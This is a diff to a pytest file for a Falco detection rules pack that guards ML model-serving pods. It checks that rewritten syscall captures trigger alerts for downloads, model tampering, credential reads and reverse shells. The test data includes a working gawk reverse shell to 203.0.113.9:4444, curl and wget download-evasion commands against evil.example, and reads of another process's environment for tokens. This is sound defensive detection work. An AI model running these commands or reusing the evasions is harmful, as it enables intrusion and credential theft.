@@ -11,6 +11,7 @@ followed). Where that matters, the rewritten execve gives the path Falco would r
 
 from __future__ import annotations
 
+import struct
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass
 from pathlib import Path
@@ -18,6 +19,7 @@ from typing import Any
 
 import pytest
 
+from responder.rulespack.condition import Value, checks
 from responder.rulespack.evttypes import event_types
 from responder.rulespack.expand import load_paths
 from responder.rulespack.sysdig import Sysdig
@@ -275,6 +277,16 @@ def test_the_public_files_beside_the_token_stay_quiet(derive: Derive, path: str)
 
 # -- 3. Downloads and one-liners ---------------------------------------------------------------------
 
+# The executable Falco reports for a program started by name: scripts (pip) resolve to their
+# interpreter. (sysdig 0.29 reports the path given to execve: each variant passes Falco's.)
+SCRIPT_INTERPRETERS = {"pip3.11": "/usr/bin/python3.11", "pip-3.11": "/usr/bin/python3.11"}
+
+
+def _exepath(argv0: str) -> str:
+    if argv0.startswith("/"):
+        return argv0
+    return SCRIPT_INTERPRETERS.get(argv0, f"/usr/bin/{argv0}")
+
 
 @pytest.mark.parametrize(
     "argv",
@@ -297,11 +309,31 @@ def test_the_public_files_beside_the_token_stay_quiet(derive: Derive, path: str)
         ["curl", "--resolve", "localhost:80:203.0.113.9", "http://localhost/x"],
         ["python3", "-m", "pip.__main__", "install", "x"],
         ["python3", "-m", "pip"],
+        # Review 70: a second URL without a scheme, options that read URLs or settings from a file,
+        # a proxy in a cluster of short options, redirects, and pip run by the interpreter.
+        ["curl", "-s", "http://127.0.0.1:8088/", "evil.example/tool", "-o", "/tmp/tool"],
+        ["curl", "-s", "http://127.0.0.1:8088/", "-o", "/tmp/tool"],
+        ["curl", "-K", "/tmp/cfg", "http://127.0.0.1:8088/"],
+        ["curl", "-sK/tmp/cfg", "http://127.0.0.1:8088/"],
+        ["curl", "-sxevil.example:3128", "http://127.0.0.1/x"],
+        ["curl", "-sL", "http://127.0.0.1:9000/redirect"],
+        ["curl", "--location", "http://127.0.0.1:9000/redirect"],
+        ["curl", "-:", "http://127.0.0.1/x"],
+        ["wget", "-i", "/tmp/urls", "http://127.0.0.1:8088/"],
+        ["wget", "-qi/tmp/urls", "http://127.0.0.1:8088/"],
+        ["wget", "--input-file=/tmp/urls", "http://127.0.0.1:8088/"],
+        ["wget", "-erobots=off", "http://127.0.0.1:8088/"],
+        ["busybox", "wget", "http://127.0.0.1/", "evil.example/x"],
+        ["busybox", "wget", "-Y", "on", "http://127.0.0.1/"],
+        ["python3", "/usr/local/bin/pip", "install", "evil"],
+        ["python3.11", "-I", "/usr/bin/pip3", "install", "evil"],
+        ["python3", "/usr/bin/pip3.11", "download", "evil"],
+        ["python3", "/usr/bin/pip-3.11"],
     ],
     ids=" ".join,
 )
 def test_download_evasions_are_downloads(derive: Derive, argv: list[str]) -> None:
-    derived = derive(CURL_F2.capture, CURL_F2.exec(argv=argv, name=argv[0]))
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
     [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
     assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))
 
@@ -318,11 +350,19 @@ def test_download_evasions_are_downloads(derive: Derive, argv: list[str]) -> Non
         ["python3", "-u", "-m", "pipeline_server", "--port", "8000"],
         ["busybox", "sha256sum", "/models/model.pt"],
         ["pipewire"],
+        # Flags with their values attached, and programs that mention pip without running it.
+        ["curl", "-sf", "-o/dev/null", "http://127.0.0.1:8080/health"],
+        ["curl", "-i", "http://localhost:8080/"],
+        ["curl", "--silent", "--fail", "http://[::1]:8000/v2/health/ready"],
+        ["wget", "-qO-", "http://127.0.0.1:8080/health"],
+        ["busybox", "wget", "-qO-", "http://localhost:8080/health"],
+        ["python3", "/srv/app.py", "--pip-cache", "/root/.cache"],
+        ["python3", "/app/pipeline/serve.py", "--port", "8000"],
     ],
     ids=" ".join,
 )
 def test_local_requests_and_other_programs_are_not_downloads(derive: Derive, argv: list[str]) -> None:
-    derived = derive(CURL_F2.capture, CURL_F2.exec(argv=argv, name=argv[0]))
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
     [event] = derived.events(f"{EXECVE} and {CURL_F2.thread}")
     assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))
     assert derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}") == []
@@ -426,3 +466,365 @@ def test_a_shell_script_is_a_shell_unless_it_is_a_system_tool_of_the_image(
     [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
     assert (event["proc.name"], event["proc.args"]) == (name, f"{script} -p")
     assert bool(derived.fired(SHELL, SH_A1.thread)) is fires
+
+
+# -- Review 70 -------------------------------------------------------------------------------------
+# Each evasion below is the nearest recorded action with the event the attacker changes rewritten.
+
+MODEL_LOAD = "Unexpected model file load in serving pod"
+TAMPER = "Model artifact tampering in serving pod"
+
+PYTHON_C1 = Recorded("sg-c-modelload.scap", "sgcap-c1")  # python3 reads /tmp/evil/model.pt
+PYTHON_D1 = Recorded("sg-d-tamper.scap", "sgcap-d1")  # python3 appends to /models/resnet/model.pt
+SH_D2 = Recorded("sg-d-tamper.scap", "sgcap-d2")  # sh -c 'mv ...', the parent of mv
+MV_D2 = Recorded("sg-d-tamper.scap", "/models/resnet/sgcap-d2-old.bin", "mv")
+CHMOD_D3 = Recorded("sg-d-tamper.scap", "0666", "chmod")
+LN_D4 = Recorded("sg-d-tamper.scap", "-s", "ln")  # ln -s /tmp/evil/model.pt /models/resnet/evil.pt
+
+
+def _one(recorded: Recorded, event_type: int) -> se.Event:
+    """The event of that type (the only one) of the recorded program's thread."""
+    _, exit_ = recorded.exec_events()
+    [event] = se.find_events(_events(recorded.capture), (event_type,), exit_.tid)
+    return event
+
+
+def _open_instead(recorded: Recorded, recorded_path: str, path: str) -> Replacements:
+    """The recorded program opens ``path`` where it opened ``recorded_path`` (the openat pair)."""
+    _, exit_ = recorded.exec_events()
+    pair = [
+        e
+        for e in se.find_events(_events(recorded.capture), (se.OPENAT_ENTER, se.OPENAT_EXIT), exit_.tid)
+        if e.text(se.OPENAT_ENTER_NAME if e.type == se.OPENAT_ENTER else se.OPENAT_EXIT_NAME) == recorded_path
+    ]
+    enter, exit_open = pair[:2]
+    return {
+        enter.index: se.replaced(enter, {se.OPENAT_ENTER_NAME: se.strings(path)}),
+        exit_open.index: se.replaced(exit_open, {se.OPENAT_EXIT_NAME: se.strings(path)}),
+    }
+
+
+def _opened(derived: Derived, recorded: Recorded, rule: str, path: str) -> list[str]:
+    """The files, among the recorded program's opens of ``path``, on which ``rule`` fires."""
+    condition = f'evt.type = openat and evt.dir = < and {recorded.thread} and fd.name = "{path}"'
+    assert derived.events(condition), f"{path} is not opened in the derived capture"
+    return [e["fd.name"] for e in derived.fired(rule, condition)]
+
+
+# 5. Finding 1: a link made outside the model dirs to a model or a model dir, and writes through
+# /proc/<pid>/root or /proc/<pid>/cwd. Rule 2 used to see only links made inside a model dir.
+
+
+def _symlink(target: str, link: str) -> Replacements:
+    event = _one(LN_D4, se.SYMLINKAT_EXIT)
+    return {
+        event.index: se.replaced(
+            event,
+            {se.SYMLINKAT_EXIT_TARGET: se.strings(target), se.SYMLINKAT_EXIT_LINKPATH: se.strings(link)},
+        )
+    }
+
+
+@pytest.mark.parametrize(
+    ("target", "link", "fires"),
+    [
+        ("/models/resnet/model.pt", "/tmp/m", True),  # then `echo x >> /tmp/m` writes the model
+        ("/models", "/tmp/md", True),  # then /tmp/md/resnet/model.pt is every model
+        ("/mnt/models/model.safetensors", "/dev/shm/.m", True),
+        ("/proc/self/root/models", "/tmp/md", True),  # a link to the model dir through /proc
+        ("/tmp/evil/model.pt", "/models/resnet/evil.pt", True),  # as recorded (d4)
+        ("/tmp/evil/model.pt", "/tmp/m", False),  # nothing of the model dirs
+        ("/proc/self/fd", "/dev/fd", False),  # the links the runtime makes in /dev
+        ("/proc/self/fd/1", "/dev/stdout", False),
+    ],
+)
+def test_a_link_into_the_model_dirs_made_anywhere_is_tampering(
+    derive: Derive, target: str, link: str, fires: bool
+) -> None:
+    derived = derive(LN_D4.capture, _symlink(target, link))
+    made = f"evt.type = symlinkat and evt.dir = < and {LN_D4.thread}"
+    assert [e["evt.num"] for e in derived.events(made)]
+    assert bool(derived.fired(TAMPER, made)) is fires
+
+
+@pytest.mark.parametrize(
+    ("path", "fires"),
+    [
+        ("/proc/self/root/models/resnet/model.pt", True),
+        ("/proc/1/root/models/resnet/model.pt", True),
+        ("/proc/thread-self/root/mnt/models/model.safetensors", True),
+        ("/proc/1/task/1/root/root/.cache/huggingface/hub/model.bin", True),
+        ("/proc/1/root/models/resnet/config.pbtxt", True),  # any file of a model dir
+        # Through a directory the path does not name (the working directory, a directory's fd): a file
+        # with a model extension counts.
+        ("/proc/1/cwd/models/resnet/model.pt", True),
+        ("/proc/self/cwd/resnet/model.pt", True),  # after cd /models
+        ("/proc/self/fd/3/model.safetensors", True),
+        ("/models/resnet/model.pt", True),  # as recorded (d1)
+        # Writes through /proc elsewhere: the JVM attach file jcmd creates, a profiler's agent.
+        ("/proc/1/cwd/.attach_pid1", False),
+        ("/proc/1/root/tmp/libasyncProfiler.so", False),
+    ],
+)
+def test_a_write_through_proc_root_or_cwd_into_a_model_dir_is_tampering(
+    derive: Derive, path: str, fires: bool
+) -> None:
+    derived = derive(PYTHON_D1.capture, _open_instead(PYTHON_D1, "/models/resnet/model.pt", path))
+    assert bool(_opened(derived, PYTHON_D1, TAMPER, path)) is fires
+
+
+def test_chmod_and_rename_through_proc_root_are_tampering(derive: Derive) -> None:
+    chmod = _one(CHMOD_D3, se.FCHMODAT_EXIT)
+    derived = derive(
+        CHMOD_D3.capture,
+        {
+            chmod.index: se.replaced(
+                chmod, {se.FCHMODAT_EXIT_FILENAME: se.strings("/proc/self/root/models/resnet/model.pt")}
+            )
+        },
+    )
+    assert [e["evt.type"] for e in derived.fired(TAMPER, CHMOD_D3.thread)] == ["fchmodat"]
+    rename = _one(MV_D2, se.RENAMEAT2_EXIT)
+    changes = {
+        se.RENAMEAT2_EXIT_OLDPATH: se.strings("/tmp/evil.bin"),
+        se.RENAMEAT2_EXIT_NEWPATH: se.strings("/proc/1/root/models/resnet/model.pt"),
+    }
+    derived = derive(MV_D2.capture, {rename.index: se.replaced(rename, changes)})
+    assert [e["evt.type"] for e in derived.fired(TAMPER, MV_D2.thread)] == ["renameat2"]
+
+
+def test_every_model_dir_is_spelled_out_for_proc_paths() -> None:
+    """The mirror macro holds every default model dir (the checker holds overrides to it too)."""
+    ruleset = load_paths([str(PACK)])
+    mirror = ruleset.macros["serving_guard_model_dir_through_proc"]
+    assert mirror.ast is not None
+    tested = {c.value.text for c in checks(mirror.ast) if isinstance(c.value, Value)}
+    assert tested == {f"*/proc/*/root{d}*" for d in ruleset.list_items["serving_guard_model_dirs"]}
+
+
+# 6. Finding 2: TorchServe's worker loads the model the frontend unpacked into its temporary
+# directory: quiet when it is that worker (python started by java), not for anyone else.
+
+TORCHSERVE_MODEL = "/home/model-server/tmp/models/3f2a9c1e5b7d/resnet18.pt"
+
+
+def _torchserve(*, parent: str, worker: str, path: str) -> Replacements:
+    """`sh -c mv ...` becomes the frontend (``parent``), its child mv the worker (``worker``), and the
+    worker reads ``path`` where mv read /usr/share/locale/locale.alias."""
+    replacements = dict(
+        SH_D2.exec(
+            path=f"/usr/bin/{parent}", argv=[parent, "-Djava.io.tmpdir=/home/model-server/tmp"], name=parent
+        )
+    )
+    worker_argv = [worker, "/home/venv/lib/python3.9/site-packages/ts/model_service_worker.py"]
+    replacements.update(MV_D2.exec(path="/usr/bin/python3.9", argv=worker_argv, name=worker))
+    replacements.update(_open_instead(MV_D2, "/usr/share/locale/locale.alias", path))
+    return replacements
+
+
+@pytest.mark.parametrize(
+    ("parent", "worker", "path", "fires"),
+    [
+        ("java", "python", TORCHSERVE_MODEL, False),  # TorchServe loading its model
+        ("java", "python3", "/home/model-server/tmp/models/0a1b/model.safetensors", False),
+        ("sh", "python", TORCHSERVE_MODEL, True),  # a python started by a shell
+        ("java", "cat", TORCHSERVE_MODEL, True),  # not the worker
+        ("java", "python", "/home/model-server/tmp/evil.pt", True),  # beside the unpack dir
+        ("java", "python", "/tmp/models/3f2a/resnet18.pt", True),
+    ],
+)
+def test_torchserve_worker_loading_its_unpacked_model_is_quiet(
+    derive: Derive, parent: str, worker: str, path: str, fires: bool
+) -> None:
+    derived = derive(MV_D2.capture, _torchserve(parent=parent, worker=worker, path=path))
+    [event] = derived.events(f"{EXECVE} and {MV_D2.thread}")
+    assert event["proc.name"] == worker
+    assert bool(_opened(derived, MV_D2, MODEL_LOAD, path)) is fires
+
+
+# 7. Finding 6: the *.pth exception only in the image's own site directories; extensions in any case;
+# more extensions.
+
+
+@pytest.mark.parametrize(
+    ("path", "fires"),
+    [
+        ("/tmp/site-packages/evil.pth", True),
+        ("/root/.local/lib/python3.11/site-packages/evil.pth", True),
+        ("/tmp/evil/dist-packages/x.pth", True),
+        ("/usr/lib/python3/dist-packages/distutils-precedence.pth", False),
+        ("/usr/local/lib/python3.11/site-packages/_virtualenv.pth", False),
+        ("/opt/conda/lib/python3.10/site-packages/matplotlib-3.8.0-py3.10-nspkg.pth", False),
+        ("/home/venv/lib/python3.9/site-packages/distutils-precedence.pth", False),
+        ("/usr/local/lib/python3.11/site-packages/torch/weights.pth", True),  # not a site directory
+    ],
+)
+def test_python_path_files_are_quiet_only_in_the_images_site_directories(
+    derive: Derive, path: str, fires: bool
+) -> None:
+    derived = derive(PYTHON_C1.capture, _open_instead(PYTHON_C1, "/tmp/evil/model.pt", path))
+    assert bool(_opened(derived, PYTHON_C1, MODEL_LOAD, path)) is fires
+
+
+@pytest.mark.parametrize(
+    ("path", "fires"),
+    [
+        ("/tmp/evil/MODEL.PT", True),
+        ("/tmp/evil/Model.Pt", True),
+        ("/tmp/evil/model.SafeTensors", True),
+        ("/tmp/evil/MODEL.PTH", True),
+        ("/tmp/evil/model.pt2", True),
+        ("/tmp/evil/weights.npz", True),
+        ("/tmp/evil/embedding.npy", True),
+        ("/tmp/evil/booster.ubj", True),
+        ("/tmp/evil/classifier.sav", True),
+        ("/tmp/evil/README.md", False),
+        ("/tmp/evil/NOTES.TXT", False),  # upper case, no model extension
+        ("/tmp/evil/model.ptx", False),
+    ],
+)
+def test_model_extensions_in_any_case(derive: Derive, path: str, fires: bool) -> None:
+    derived = derive(PYTHON_C1.capture, _open_instead(PYTHON_C1, "/tmp/evil/model.pt", path))
+    assert bool(_opened(derived, PYTHON_C1, MODEL_LOAD, path)) is fires
+
+
+# 8. Finding 3: a download tool under another name; Falco resolves proc.exepath to the tool.
+
+
+@pytest.mark.parametrize(
+    ("path", "argv", "name"),
+    [
+        ("/usr/bin/curl", ["/app/c", "-o", "/tmp/t", "http://evil.example/t"], "c"),
+        ("/usr/bin/wget", ["/tmp/.w", "http://evil.example/t"], ".w"),
+        ("/usr/bin/git", ["/app/g", "clone", "https://evil.example/repo"], "g"),
+    ],
+)
+def test_a_download_tool_under_another_name_is_a_download(
+    derive: Derive, path: str, argv: list[str], name: str
+) -> None:
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path=path, argv=argv, name=name))
+    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
+    assert (event["proc.name"], event["proc.exepath"]) == (name, path)
+
+
+# 9. Finding 5: another process's environment.
+
+
+@pytest.mark.parametrize(
+    ("path", "fires"),
+    [
+        ("/proc/1/environ", True),  # the server's: HF_TOKEN, the AWS_* keys of KServe's storage
+        ("/proc/1/task/1/environ", True),
+        ("/proc/self/root/proc/1/environ", True),
+        ("/proc/self/environ", False),  # its own, which it has anyway
+        ("/proc/thread-self/environ", False),
+    ],
+)
+def test_another_process_environment_is_a_credential(derive: Derive, path: str, fires: bool) -> None:
+    derived = derive(CAT_H1.capture, _open(path))
+    assert bool(_opened(derived, CAT_H1, CREDENTIALS, path)) is fires
+
+
+# 10. Finding 7: a program run from a model dir (emptyDir and volume mounts are not the upper layer).
+
+
+@pytest.mark.parametrize(
+    ("path", "fires"),
+    [
+        ("/mnt/models/tool", True),
+        ("/data/.x", True),
+        ("/root/.cache/huggingface/x", True),
+        ("/models/resnet/1/run", True),
+        ("/usr/local/bin/tritonserver", False),  # from the image (its upper-layer flag is for Falco)
+    ],
+)
+def test_a_program_run_from_a_model_dir_is_drift(derive: Derive, path: str, fires: bool) -> None:
+    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=[path, "sgcap-g2"]))
+    assert bool(derived.fired(DRIFT, f"{EXECVE} and {DROPPED_G2.thread}")) is fires
+
+
+# 11. Finding 8: TCP Fast Open connects with sendto(MSG_FASTOPEN) and no connect.
+
+
+def test_tcp_fast_open_is_egress(derive: Derive) -> None:
+    """The recorded UDP datagram (e2) sent on a TCP socket: what sendto(MSG_FASTOPEN) on a socket that
+    was never connected records. Its addresses come from the call, before the kernel bound the socket:
+    client port 0."""
+    _, python = PYTHON_E2.exec_events()
+    socket = [e for e in _events(PYTHON_E2.capture) if e.tid == python.tid and e.type == se.SOCKET_ENTER][-1]
+    stream = struct.pack("<I", 0o2000000 | 1)  # SOCK_STREAM | SOCK_CLOEXEC
+    derived = derive(PYTHON_E2.capture, {socket.index: se.replaced(socket, {se.SOCKET_ENTER_TYPE: stream})})
+    [sent] = derived.events(f"evt.type = sendto and evt.dir = < and {PYTHON_E2.thread}")
+    assert sent["fd.name"].endswith(":0->100.64.10.2:53")
+    assert [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E2.thread)] == ["sendto"]
+
+
+def test_sends_on_a_connected_tcp_socket_are_not_tested_again(derive: Derive) -> None:
+    """e1 connects to 100.64.10.2:443 and sends: the connect alerts, its send (a real client port)
+    does not alert a second time."""
+    derived = derive(PYTHON_E1.capture, {})
+    assert [
+        e["evt.type"]
+        for e in derived.events(
+            f"evt.type in (connect, sendto) and evt.dir = < and {PYTHON_E1.thread} and fd.type = ipv4"
+        )
+    ] == ["connect", "sendto"]
+    assert [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E1.thread)] == ["connect"]
+
+
+# 12. Finding 9: gawk's network special files.
+
+GAWK_REVERSE_SHELL = (
+    'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"; while((s |& getline c)>0)'
+    "{while((c |& getline l)>0) print l |& s; close(c)}}"
+)
+
+
+@pytest.mark.parametrize(
+    ("argv", "fires"),
+    [
+        (["gawk", GAWK_REVERSE_SHELL], True),
+        (["awk", GAWK_REVERSE_SHELL.replace("/inet/tcp/", "/inet6/tcp/")], True),
+        (["gawk", 'BEGIN {print "x" |& "/inet/udp/0/203.0.113.9/53"}'], True),
+        (["gawk", "-F:", "{print $1}", "/etc/passwd"], False),
+    ],
+)
+def test_gawk_network_files_are_a_reverse_shell(derive: Derive, argv: list[str], fires: bool) -> None:
+    derived = derive(PYTHON_B1.capture, PYTHON_B1.exec(path=f"/usr/bin/{argv[0]}", argv=argv, name=argv[0]))
+    assert bool(derived.fired(REVERSE_SHELL, f"{EXECVE} and {PYTHON_B1.thread}")) is fires
+
+
+# 13. Finding 10: a shell that is PID 1 is excepted only while the container starts.
+
+
+def test_a_shell_as_pid_1_after_the_start_is_a_shell(derive: Derive) -> None:
+    """The recorded `sh -c` as the PID 1 of its namespace (what a server that execs /bin/sh after code
+    execution looks like). The captures are host processes, with no container start time: the
+    exception's age test (container.duration, which 2022 libsinsp lacks) does not hold."""
+    replacements = dict(SH_A1.exec())
+    _, exit_ = SH_A1.exec_events()
+    [clone] = [
+        e
+        for e in _events(SH_A1.capture)
+        if e.tid == exit_.tid
+        and e.type in se.CLONE_EXITS
+        and struct.unpack("<q", e.params[se.CLONE_EXIT_RES])[0] == 0
+    ]
+    pid_1 = struct.pack("<q", 1)
+    replacements[clone.index] = se.replaced(clone, {se.CLONE_EXIT_VTID: pid_1, se.CLONE_EXIT_VPID: pid_1})
+    derived = derive(SH_A1.capture, replacements)
+    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
+    assert event["proc.name"] == "sh"
+    assert derived.events(f"{EXECVE} and {SH_A1.thread} and proc.vpid = 1")
+    assert derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")
+
+
+def test_the_entrypoint_exception_holds_only_while_the_container_starts() -> None:
+    ruleset = load_paths([str(PACK)])
+    rule = ruleset.rules[SHELL]
+    [entrypoint] = [e for e in rule.exceptions if e.name == "container_entrypoint"]
+    assert (entrypoint.fields, entrypoint.comps, entrypoint.values) == (
+        ("proc.vpid", "container.duration"),
+        ("=", "<"),
+        (("1", "30000000000"),),
+    )
